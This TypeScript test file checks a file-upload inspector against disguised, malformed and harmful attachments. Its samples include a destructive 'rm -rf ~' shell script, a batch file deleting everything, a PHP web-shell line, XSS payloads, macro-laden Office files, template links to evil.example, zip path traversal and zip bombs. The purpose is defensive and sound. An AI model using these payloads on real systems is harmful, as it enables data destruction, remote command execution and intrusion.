import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { inspectBytes, namingProblem, sanitizeFileName, sourceOf } from '@fale-conosco/domain';
import {
  contentTypes,
  docx,
  EICAR,
  jpeg,
  OFFICE,
  ole,
  openDocument,
  PDF,
  png,
  tiff,
  webp,
  xlsx,
  zip,
} from '../../../testing/sample-files.ts';
import { inspectFile } from './inspect-file.ts';

type Sample = readonly [name: string, content: Uint8Array | string, declaredType?: string];

let folder: string;
before(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'fale-conosco-hostile-'));
});
after(() => rm(folder, { recursive: true, force: true }));

/** What becomes of a file from its announcement to its verdict. The server in memory must say the same of its bytes. */
const verdictOf = async ([rawName, content, declaredType = '']: Sample): Promise<string> => {
  const fileName = sanitizeFileName(rawName);
  const problem = namingProblem(fileName, declaredType);
  if (problem) return problem;
  const file = path.join(folder, 'sample');
  const bytes = Uint8Array.from(Buffer.from(content as string));
  await writeFile(file, bytes);
  const verdict = await inspectFile(file, fileName, bytes.length);
  const inMemory = await inspectBytes(sourceOf(bytes), fileName);
  if (verdict.state === 'ready') {
    assert.deepEqual(inMemory, { mediaType: verdict.mediaType });
    return 'ready';
  }
  // The server asks a library besides, which knows more formats.
  if (verdict.rejectionCode !== 'attachment_type_mismatch')
    assert.deepEqual(inMemory, { rejection: verdict.rejectionCode });
  return verdict.rejectionCode;
};

const HTML = '<!DOCTYPE html><html><script>alert(1)</script></html>';
const EXE = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(200)]);
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]);
const JAR = zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0', 'A.class': 'x' });
const SCRIPT = '<script>alert(1)</script>';
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const bytes = (...parts: (Uint8Array | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const relationship = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

/** Every other extension, over the bytes of a PDF. */
const EXTENSIONS =
  'exe scr com pif bat cmd ps1 vbs vbe js jse wsf wsh hta msi msp jar lnk url scf reg inf cpl chm dll html htm xhtml svg mht mhtml swf doc xls ppt docm dotm xlsm xlsb xltm xlam pptm rtf odp gif bmp heic mp4 7z rar gz tar iso eml msg php asp jsp sh py'.split(
    ' ',
  );

const byName: readonly Sample[] = [
  ...EXTENSIONS.map((extension): Sample => [`boleto.${extension}`, PDF]),
  ['boleto.pdf.exe', PDF],
  ['boleto.pdf.EXE', EXE],
  ['boleto.PDF.hta', PDF],
  ['boleto.pdf                                   .exe', PDF],
  ['boleto.pdf.exe.', PDF],
  ['boleto.exe . . ', PDF],
  ['boleto.exe\u200b', PDF],
  ['boleto.pdf:evil', PDF],
  ['boleto.pdf:evil.exe:$DATA', PDF],
  ['boleto.pdf::$DATA', PDF],
  ['boleto\u202efdp.exe', PDF],
  ['boleto\u2066fdp\u2069.scr', PDF],
  ['boleto.\u0440df', PDF],
  ['boleto.pdf\u0501', PDF],
  ['boleto.\uff50\uff44\uff46', PDF],
  ['boleto\uff0epdf', PDF],
  ['boleto\u2024pdf', PDF],
  ['boleto.t\u0131f', tiff()],
  ['boleto.p\u0307df', PDF],
  ['boleto', PDF],
  ['pdf', PDF],
  ['.pdf', PDF],
  ['boleto.', PDF],
  ['pasta.pdf/boleto', PDF],
  ['C:\\pasta.pdf\\boleto.hta', HTML],
  ['boleto.pdf%00.exe', PDF],
  ['boleto.pdf\u0000.exe', PDF],
  ['boleto.pdf;.exe', PDF],
  ['eicar.com', EICAR],
];

const byDeclaredType: readonly Sample[] = [
  ['boleto.pdf', PDF, 'text/html'],
  ['boleto.pdf', PDF, 'application/x-msdownload'],
  ['boleto.pdf', PDF, 'IMAGE/PNG'],
  ['foto.png', png(), 'image/svg+xml; charset=utf-8'],
  ['lote.zip', zip({ 'a.xml': '<a/>' }), 'application/java-archive'],
  ['notas.txt', 'oi', 'text/html'],
  ['lote.xml', '<a/>', 'image/svg+xml'],
];

const byBytes: readonly Sample[] = [
  ['boleto.pdf', HTML],
  ['boleto.pdf', EXE],
  ['boleto.pdf', ELF],
  ['boleto.pdf', png()],
  ['boleto.pdf', 'oi'],
  ['boleto.pdf', docx()],
  ['boleto.pdf', ole('WordDocument')],
  ['boleto.pdf', `${HTML}\n${PDF}`],
  ['boleto.pdf', bytes('MZ', 'x'.repeat(100), PDF)],
  ['boleto.pdf', bytes('GIF89a', PDF)],
  ['boleto.pdf', bytes('#!/bin/sh\n', PDF)],
  ['boleto.pdf', `${'x'.repeat(1024)}${PDF}`],
  ['boleto.pdf', bytes(PDF, JAR)],
  ['foto.png', `\x89PNG${SCRIPT}`],
  ['foto.png', HTML],
  ['foto.png', PDF],
  ['foto.png', jpeg()],
  ['foto.png', 'GIF89a=1;//<script>alert(1)</script>'],
  ['foto.png', bytes(png(), JAR)],
  ['foto.jpg', png()],
  ['foto.jpg', bytes(jpeg(), zip({ 'a.html': SCRIPT }))],
  ['foto.jpeg', EXE],
  ['foto.webp', 'RIFF\x1a\0\0\0WAVEfmt '],
  ['foto.webp', `RIFF/*  WEBP*/=0;${SCRIPT}`],
  ['exame.tif', bytes('II*\0', Buffer.from([8, 0, 0, 0])).subarray(0, 3)],
  ['exame.tiff', 'MM<script>'],
  ['carta.docx', zip({ 'lote.xml': '<lote/>' })],
  ['carta.docx', xlsx()],
  ['carta.docx', HTML],
  ['carta.docx', '{\\rtf1 oi}'],
  ['carta.docx', ole('WordDocument')],
  ['carta.docx', openDocument(OFFICE.odt)],
  ['carta.docx', docx({}, `${OFFICE.docx.replace('document', 'template')}.main+xml`)],
  ['carta.odt', openDocument(OFFICE.ods)],
  ['carta.odt', docx()],
  [
    'carta.odt',
    zip([
      { name: 'x', data: '' },
      { name: 'mimetype', data: OFFICE.odt },
    ]),
  ],
  ['lote.xlsx', docx()],
  ['lote.zip', docx()],
  ['lote.zip', openDocument(OFFICE.odt)],
  ['lote.zip', 'PK'],
  ['lote.zip', bytes('PK\x03\x04', Buffer.alloc(100))],
  ['lote.zip', zip({ 'a.xml': '<a/>' }, { before: SCRIPT })],
  ['lote.zip', zip({ 'a.xml': '<a/>' }, { before: '#!/bin/sh\nrm -rf ~\nexit\n' })],
  ['lote.zip', bytes(EXE, zip({ 'a.xml': '<a/>' }))],
  ['lote.zip', bytes(zip({ 'a.xml': '<a/>' }), SCRIPT)],
  ['lote.zip', bytes(zip({ 'a.xml': '<a/>' }), zip({ 'b.exe': 'x' }))],
  ['lote.zip', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')],
  ['notas.txt', HTML],
  ['notas.txt', `\n\t  ${HTML}`],
  ['notas.txt', `\ufeff${SCRIPT}`],
  ['notas.txt', '<svg onload=alert(1)>'],
  ['notas.txt', '<!-- x --><p>'],
  ['notas.txt', utf16(HTML)],
  ['notas.txt', utf16(HTML).subarray(2)],
  ['notas.txt', utf16('oi').swap16()],
  ['notas.txt', EXE],
  ['notas.txt', 'GIF89a=1'],
  ['notas.txt', PDF],
  ['notas.txt', '{\\rtf1 oi}'],
  ['notas.txt', '#!/bin/sh\nrm -rf ~\n'],
  ['notas.txt', '<?php system($_GET["x"]);'],
  ['notas.txt', '@echo off\r\ndel *.*\r\n'],
  ['notas.txt', '[InternetShortcut]\r\nURL=http://evil.example/\r\n'],
  ['notas.txt', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['notas.txt', 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x'],
  ['notas.txt', 'From: <Saved by Blink>\nSnapshot-Content-Location: http://evil.example/\n'],
  ['notas.txt', 'oi\u0000'],
  ['notas.txt', 'oi \u001b]0;x\u0007'],
  ['notas.txt', Buffer.from([0x81, 0xff, 0xfe, 0x90])],
  ['lote.csv', '<table><tr><td>1</td></tr></table>'],
  ['lote.csv', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'],
  ['lote.csv', 'ID;PWXL;N;E\nC;X1;Y1;EEXEC("calc")'],
  ['lote.csv', EXE],
  ['lote.xml', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'],
  [
    'lote.xml',
    `<?xml version="1.0"?><lote>${' '.repeat(70_000)}<x:a xmlns:x="http://www.w3.org/1999/xhtml"/></lote>`,
  ],
  ['lote.xml', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['lote.xml', '<s:svg xmlns:s="http://www.w3.org/2000/svg"></s:svg>'],
  ['lote.xml', '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><lote/>'],
  ['lote.xml', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'],
  ['lote.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'],
  ['lote.xml', '<?xml version="1.0"?><scriptlet><registration progid="x"/></scriptlet>'],
  ['lote.xml', '<?xml version="1.0"?><lote><guia'],
  ['lote.xml', utf16('<?xml version="1.0" encoding="UTF-16"?><lote/>')],
];

const unsafe: readonly Sample[] = [
  ['carta.docx', docx({ 'word/vbaProject.bin': 'x' })],
  ['carta.docx', docx({ 'word/VBAPROJECT.BIN': 'x' })],
  ['carta.docx', docx({ 'word/vbaData.xml': 'x' })],
  ['carta.docx', docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
  ['carta.docx', docx({}, 'application/vnd.ms-word.document.macro&#69;nabled.main+xml')],
  ['carta.docx', docx({ 'word/activeX/activeX1.xml': 'x' })],
  ['carta.docx', docx({ 'word/embeddings/oleObject1.bin': ole('\x01Ole10Native').toString('latin1') })],
  ['carta.docx', docx({ 'word/embeddings/programa.exe': 'MZ' })],
  ['carta.docx', docx({ 'word/embeddings/planilha.xlsm': 'PK' })],
  ['carta.docx', docx({ 'word/media/imagem.lnk': 'L' })],
  [
    'carta.docx',
    docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/x.dotm') }),
  ],
  [
    'carta.docx',
    docx({ 'word/_rels/document.xml.rels': relationship('oleObject', 'mhtml:http://evil.example/x!x-usc:') }),
  ],
  [
    'carta.docx',
    docx({ 'word/_rels/document.xml.rels': relationship('frame', '&#104;ttps://evil.example/') }),
  ],
  ['carta.docx', docx({ 'word/documento.xml': 'a'.repeat(150_000_000) })],
  ['lote.xlsx', xlsx({ 'xl/vbaProject.bin': 'x' })],
  ['lote.xlsx', xlsx({ 'xl/macrosheets/sheet1.xml': 'x' })],
  ['lote.xlsx', xlsx({}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
  ['lote.xlsx', xlsx({ '../../x.xml': 'x' })],
  ['carta.odt', openDocument(OFFICE.odt, [{ name: 'Basic/Standard/Module1.xml', data: 'Sub Main' }])],
  ['carta.odt', openDocument(OFFICE.odt, [{ name: 'Scripts/python/x.txt', data: 'import os' }])],
  ['lote.zip', JAR],
  ['lote.zip', zip({ 'boleto.exe': 'MZ' })],
  ['lote.zip', zip({ 'boleto.pdf.scr': 'MZ' })],
  ['lote.zip', zip({ 'boleto.exe ': 'MZ' })],
  ['lote.zip', zip({ 'a.xml': '<a/>', 'pasta/boleto.JS': 'x' })],
  ['lote.zip', zip({ 'boleto.html': SCRIPT })],
  ['lote.zip', zip({ 'boleto.lnk': 'x' })],
  ['lote.zip', zip({ 'contrato.docm': 'PK' })],
  ['lote.zip', zip([{ name: 'a.txt', data: 'x', unicodeName: 'a.exe' }])],
  ['lote.zip', zip({ '../a.xml': '<a/>' })],
  ['lote.zip', zip({ '..\\..\\a.xml': '<a/>' })],
  ['lote.zip', zip({ '/etc/passwd': 'x' })],
  ['lote.zip', zip({ 'C:/a.xml': '<a/>' })],
  [
    'lote.zip',
    zip([
      { name: 'a.xml', data: '<a/>' },
      { name: 'a.xml', data: '<b/>' },
    ]),
  ],
  ['lote.zip', zip([{ name: 'a.xml', data: 'a'.repeat(150_000_000), deflate: true }])],
  ['lote.zip', zip([{ name: 'a.xml', data: 'x', claimedBytes: 2 ** 31 }])],
  ['lote.zip', zip(Array.from({ length: 10_001 }, (_, index) => ({ name: `${index}` })))],
  [
    'lote.zip',
    zip([
      { name: 'a', data: 'a'.repeat(1000) },
      { name: 'b', data: 'a'.repeat(1000), offset: 0 },
    ]),
  ],
  ['foto.png', png(50_000, 50_000)],
  ['foto.png', png(2 ** 31, 2 ** 31)],
  ['foto.jpg', jpeg(65_535, 65_535)],
  ['exame.tiff', tiff(100_000, 100_000)],
  ['foto.webp', webp(16_000_000, 16_000_000)],
];

const encrypted: readonly Sample[] = [
  ['lote.zip', zip([{ name: 'a.xml', data: '<a/>', flags: 1 }])],
  ['lote.zip', zip([{ name: 'a.xml', data: '<a/>', method: 99, flags: 1 }])],
  ['lote.zip', zip([{ name: 'a.xml', data: '<a/>', flags: 0x2000 }])],
  ['carta.docx', ole('EncryptionInfo', 'EncryptedPackage')],
  ['lote.xlsx', ole('EncryptedPackage')],
  [
    'carta.odt',
    zip([
      { name: 'mimetype', data: OFFICE.odt },
      { name: 'META-INF/manifest.xml', data: '<manifest:encryption-data/>', deflate: true },
    ]),
  ],
  [
    'carta.odt',
    zip([
      { name: 'mimetype', data: OFFICE.odt },
      { name: 'encrypted-package', data: 'x' },
    ]),
  ],
];

const honest: readonly Sample[] = [
  ['boleto.pdf', PDF, 'application/pdf'],
  ['BOLETO.PDF', PDF, 'application/octet-stream'],
  ['relatório v1.2 (final).docx.pdf', PDF],
  ['boleto.pdf. ', PDF],
  ['boleto.pdf\u200b', PDF],
  ['boleto.pdf', `\r\n\n${PDF}`],
  ['boleto.pdf', `\ufeff${PDF}`],
  ['boleto.pdf', bytes('\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n', PDF)],
  ['boleto.pdf', bytes(Buffer.alloc(128), PDF)],
  ['boleto.pdf', `${PDF}\r\n\r\n`],
  ['tela.png', png(), 'image/png'],
  ['planta.png', png(9933, 14_043)],
  ['foto.jpg', jpeg(4000, 3000), 'image/pjpeg'],
  ['foto.jpeg', jpeg()],
  ['foto.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
  ['foto.webp', webp(), 'image/webp'],
  ['foto.webp', Buffer.from('RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\0\0\0\0\0', 'latin1')],
  ['exame.tif', tiff()],
  ['exame.TIFF', tiff(2480, 3508)],
  ['carta.docx', docx(), OFFICE.docx],
  ['carta.docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
  ['carta.docx', docx({ 'word/embeddings/oleObject1.bin': ole('Equation Native').toString('latin1') })],
  [
    'carta.docx',
    docx({ 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://operadora.example/') }),
  ],
  [
    'carta.docx',
    docx({
      'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///C:\\Modelos\\Normal.dotm'),
    }),
  ],
  [
    'carta.docx',
    zip({
      'word/document.xml': '<w/>',
      '[Content_Types].xml': contentTypes('/word/document.xml', `${OFFICE.docx}.main+xml`),
    }),
  ],
  ['lote.xlsx', xlsx()],
  [
    'lote.xlsx',
    xlsx({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationship(
        'externalLinkPath',
        'https://sp.example/a.xlsx',
      ),
    }),
  ],
  ['carta.odt', openDocument(OFFICE.odt)],
  ['carta.odt', openDocument(OFFICE.odt, [{ name: 'Basic/Standard/script-lb.xml', data: '<library/>' }])],
  ['carta.odt', zip({ mimetype: OFFICE.odt })],
  ['lote.ods', openDocument(OFFICE.ods)],
  ['lote.zip', zip({ 'lote.xml': '<lote/>' }), 'application/x-zip-compressed'],
  ['lote.zip', zip([{ name: 'lote.xml', data: 'ação '.repeat(1000), deflate: true }, { name: 'pasta/' }])],
  ['lote.zip', zip({ 'lote.xml': '<lote/>' }, { comment: 'Lote de novembro' })],
  ['lote.zip', zip({ 'laudo.pdf': PDF, '__MACOSX/._laudo.pdf': 'x', 'contato@clinica.com/guia.pdf': PDF })],
  ['lote.zip', zip([{ name: 'a.xml', data: ' '.repeat(20_000_000), deflate: true }])],
  ['notas.txt', 'Autorização nº 12 — pendente\r\n', 'text/plain'],
  ['notas.txt', Buffer.from('Autorização pendente', 'latin1')],
  ['notas.txt', `\ufeffcom marca de ordem`],
  ['notas.txt', 'BM: banco de medicamentos'],
  ['notas.txt', 'MZ 12'],
  ['notas.txt', 'Se a < b e b > c, então <a ver>'],
  ['notas.txt', '<fulano@saolucas.example> escreveu:\noi'],
  ['notas.txt', '<?xml version="1.0"?><lote/>'],
  ['notas.txt', 'From: ana@saolucas.example\nSubject: guia\n\noi'],
  // A text for everybody but a scanner, which is how a scanner is tried.
  ['eicar.txt', EICAR],
  ['lote.csv', 'guia;valor\r\n1;10,00\r\n', 'application/vnd.ms-excel'],
  ['lote.csv', Buffer.from('guia;situação\r\n1;não\r\n', 'latin1'), 'text/csv'],
  ['lote.csv', '"guia","valor"\n"1","-10.00"\n', ''],
  [
    'lote.xml',
    '<?xml version="1.0" encoding="UTF-8"?>\n<envioLote>\n  <campo>Lote: 7</campo>\n</envioLote>\n',
    'text/xml',
  ],
  [
    'lote.xml',
    Buffer.from(
      '<?xml version="1.0" encoding="ISO-8859-1"?>\n<ans:mensagemTISS xmlns:ans="http://www.ans.gov.br/padroes/tiss/schemas">ç</ans:mensagemTISS>',
      'latin1',
    ),
  ],
  ['lote.xml', '<!-- lote 7 --><lote/>'],
];

const families: readonly (readonly [string, string, readonly Sample[]])[] = [
  ['whose name has another extension', 'attachment_type_not_allowed', byName],
  ['that are declared as something else', 'attachment_type_mismatch', byDeclaredType],
  ['whose bytes are not what their names say', 'attachment_type_mismatch', byBytes],
  ['that harm whoever opens them', 'attachment_unsafe', unsafe],
  ['that need a password', 'attachment_encrypted', encrypted],
  ['that are what they say', 'ready', honest],
];

describe('files', () => {
  for (const [which, verdict, samples] of families) {
    it(`${which}: ${verdict} (${samples.length})`, async () => {
      const wrong: string[] = [];
      for (const [index, sample] of samples.entries()) {
        const found = await verdictOf(sample);
        if (found !== verdict) wrong.push(`${index}: ${JSON.stringify(sample[0])} ${found}`);
      }
      assert.deepEqual(wrong, []);
    });
  }

  it('are many', () => {
    assert.ok(families.slice(0, -1).reduce((total, [, , samples]) => total + samples.length, 0) >= 150);
  });
});
